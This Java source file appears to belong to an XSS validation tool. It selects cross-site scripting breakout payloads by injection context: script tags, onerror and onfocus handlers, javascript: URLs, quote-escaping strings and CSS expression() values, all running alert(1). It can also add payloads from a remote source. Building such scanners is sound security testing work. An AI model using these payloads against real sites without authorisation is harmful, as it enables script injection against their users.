package com.xssvalidator.payload;

import com.xssvalidator.context.CssPosition;
import com.xssvalidator.context.CssType;
import com.xssvalidator.context.InjectionContext;
import com.xssvalidator.context.QuoteType;
import com.xssvalidator.model.ValidatorConfig;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.function.Consumer;

/**
 * Maps a classified context to the breakout payloads that fit its exact quoting and
 * delimiter state. When augmentation is enabled the result is extended with payloads from
 * a {@link PayloadAugmenter}; that call is best-effort and can never fail synthesis.
 */
public class ContextPayloadSynthesizer {

    public static final String COMMENT = "context_comment";
    public static final String CSS = "context_css";
    public static final String ATTRIBUTE = "context_attribute";
    public static final String JAVASCRIPT = "context_javascript";
    public static final String URL = "context_url";
    public static final String HTML = "context_html";
    public static final String SERVER_GENERATED = "server_generated";

    static final int SERVER_GENERATED_PRIORITY = 5;
    static final int MAX_ATTRIBUTE_PAYLOADS = 4;

    private final PayloadAugmenter augmenter;
    private final ValidatorConfig config;
    private volatile Consumer<String> errorLogger;

    /**
     * @param augmenter remote payload source, or null to never augment
     */
    public ContextPayloadSynthesizer(PayloadAugmenter augmenter, ValidatorConfig config) {
        this.augmenter = augmenter;
        this.config = config;
    }

    public void setErrorLogger(Consumer<String> errorLogger) {
        this.errorLogger = errorLogger;
    }

    public List<PayloadSpec> synthesize(InjectionContext ctx) {
        List<PayloadSpec> out = new ArrayList<>(fixedPayloads(ctx));
        if (!out.isEmpty() && augmenter != null && config.isAugmentationEnabled()) {
            out.addAll(augment(ctx));
        }
        return out;
    }

    private List<PayloadSpec> augment(InjectionContext ctx) {
        int limit = config.getAugmentationLimit();
        try {
            List<PayloadSpec> fetched = augmenter.fetch(ctx, limit);
            List<PayloadSpec> out = new ArrayList<>();
            for (PayloadSpec p : fetched) {
                if (out.size() >= limit) break;
                out.add(new PayloadSpec(p.text(), SERVER_GENERATED, SERVER_GENERATED_PRIORITY));
            }
            return out;
        } catch (Exception e) {
            Consumer<String> log = errorLogger;
            if (log != null) {
                log.accept("[Synthesizer] Payload augmentation failed for " + ctx.describe() + ": " + e.getMessage());
            }
            return List.of();
        }
    }

    /** The fixed payloads for a context, without augmentation. Empty for UNKNOWN. */
    static List<PayloadSpec> fixedPayloads(InjectionContext ctx) {
        return switch (ctx.kind()) {
            case COMMENT -> commentPayloads(ctx);
            case CSS -> cssPayloads(ctx);
            case ATTRIBUTE -> attributePayloads(ctx);
            case JAVASCRIPT -> javascriptPayloads(ctx);
            case URL -> List.of(
                    new PayloadSpec("javascript:alert(1)", URL, 1),
                    new PayloadSpec("data:text/html,<script>alert(1)</script>", URL, 2));
            case HTML -> List.of(
                    new PayloadSpec("<script>alert(1)</script>", HTML, 1),
                    new PayloadSpec("<img src=x onerror=alert(1)>", HTML, 1),
                    new PayloadSpec("<svg onload=alert(1)>", HTML, 2));
            case UNKNOWN -> List.of();
        };
    }

    private static List<PayloadSpec> commentPayloads(InjectionContext ctx) {
        return switch (ctx.commentType()) {
            case HTML -> List.of(
                    new PayloadSpec("--><script>alert(1)</script><!--", COMMENT, 1),
                    new PayloadSpec("--><img src=x onerror=alert(1)>", COMMENT, 2));
            case JS_SINGLE_LINE -> List.of(
                    new PayloadSpec("\nalert(1);//", COMMENT, 1),
                    new PayloadSpec("%0aalert(1)//", COMMENT, 2));
            case JS_MULTI_LINE -> List.of(
                    new PayloadSpec("*/alert(1);/*", COMMENT, 1),
                    new PayloadSpec("*/</script><script>alert(1)</script>", COMMENT, 2));
            case CSS -> List.of(
                    new PayloadSpec("*/</style><script>alert(1)</script>", COMMENT, 1),
                    new PayloadSpec("*/}body{background:url(javascript:alert(1))}/*", COMMENT, 2));
        };
    }

    private static List<PayloadSpec> cssPayloads(InjectionContext ctx) {
        List<PayloadSpec> out = new ArrayList<>();
        if (ctx.cssType() == CssType.ATTRIBUTE) {
            QuoteType quote = ctx.quoteType();
            if (quote == QuoteType.NONE) {
                out.add(new PayloadSpec(";color:expression(alert(1))", CSS, 1));
                out.add(new PayloadSpec("><script>alert(1)</script>", CSS, 2));
            } else {
                char q = quote.quoteChar();
                out.add(new PayloadSpec(q + ";color:expression(alert(1))//", CSS, 1));
                out.add(new PayloadSpec(q + "><script>alert(1)</script>", CSS, 2));
            }
        } else {
            out.add(new PayloadSpec("</style><script>alert(1)</script>", CSS, 1));
        }
        if (ctx.position() == CssPosition.PROPERTY_VALUE) {
            out.add(new PayloadSpec("expression(alert(1))", CSS, 2));
            out.add(new PayloadSpec("url(javascript:alert(1))", CSS, 3));
        } else {
            out.add(new PayloadSpec("}body{background:url(javascript:alert(1))}", CSS, 3));
        }
        return out;
    }

    private static List<PayloadSpec> attributePayloads(InjectionContext ctx) {
        List<PayloadSpec> out = new ArrayList<>();
        QuoteType quote = ctx.quoteType() != null ? ctx.quoteType() : QuoteType.NONE;
        if (quote == QuoteType.NONE) {
            out.add(new PayloadSpec(" onmouseover=alert(1) ", ATTRIBUTE, 1));
            out.add(new PayloadSpec(" autofocus onfocus=alert(1) ", ATTRIBUTE, 1));
            out.add(new PayloadSpec("><script>alert(1)</script>", ATTRIBUTE, 2));
        } else {
            char q = quote.quoteChar();
            out.add(new PayloadSpec(q + " onmouseover=" + q + "alert(1)" + q + " x=" + q, ATTRIBUTE, 1));
            out.add(new PayloadSpec(q + " autofocus onfocus=" + q + "alert(1)" + q + " x=" + q, ATTRIBUTE, 1));
            out.add(new PayloadSpec(q + "><script>alert(1)</script>", ATTRIBUTE, 2));
        }

        String name = ctx.attributeName() != null ? ctx.attributeName().toLowerCase(Locale.ROOT) : "";
        if (name.startsWith("on")) {
            out.add(new PayloadSpec("alert(1)", ATTRIBUTE, 1));
        } else if (name.equals("href") || name.equals("src")) {
            out.add(new PayloadSpec("javascript:alert(1)", ATTRIBUTE, 1));
        }
        return out.size() > MAX_ATTRIBUTE_PAYLOADS ? out.subList(0, MAX_ATTRIBUTE_PAYLOADS) : out;
    }

    private static List<PayloadSpec> javascriptPayloads(InjectionContext ctx) {
        QuoteType delimiter = ctx.stringDelimiter() != null ? ctx.stringDelimiter() : QuoteType.NONE;
        return switch (delimiter) {
            case DOUBLE -> List.of(
                    new PayloadSpec("\";alert(1);//", JAVASCRIPT, 1),
                    new PayloadSpec("\"+alert(1)+\"", JAVASCRIPT, 2));
            case SINGLE -> List.of(
                    new PayloadSpec("';alert(1);//", JAVASCRIPT, 1),
                    new PayloadSpec("'+alert(1)+'", JAVASCRIPT, 2));
            case NONE -> List.of(
                    new PayloadSpec(";alert(1);//", JAVASCRIPT, 1),
                    new PayloadSpec("</script><script>alert(1)</script>", JAVASCRIPT, 2));
        };
    }
}
